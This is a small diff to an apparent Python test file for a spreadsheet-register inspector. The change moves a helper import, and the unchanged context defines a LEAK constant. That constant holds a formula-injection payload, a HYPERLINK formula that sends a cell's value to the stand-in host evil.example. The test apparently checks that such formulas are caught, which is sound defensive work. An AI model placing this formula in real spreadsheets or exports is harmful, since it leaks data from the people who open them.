@@ -21,8 +21,7 @@ from openpyxl import load_workbook
 from inspector_app.register import is_formula_like, sheet_value
 from inspector_app.store import tables
 from inspector_app.store.workspace import Workspace
-
-from .helpers import code, good_row, write_csv
+from tests.support.registers import code, good_row, write_csv
 
 LEAK = '=HYPERLINK("http://evil.example/?leak="&B2,"详情")'
 DAY = datetime(2020, 2, 20, 2, 0, tzinfo=UTC)
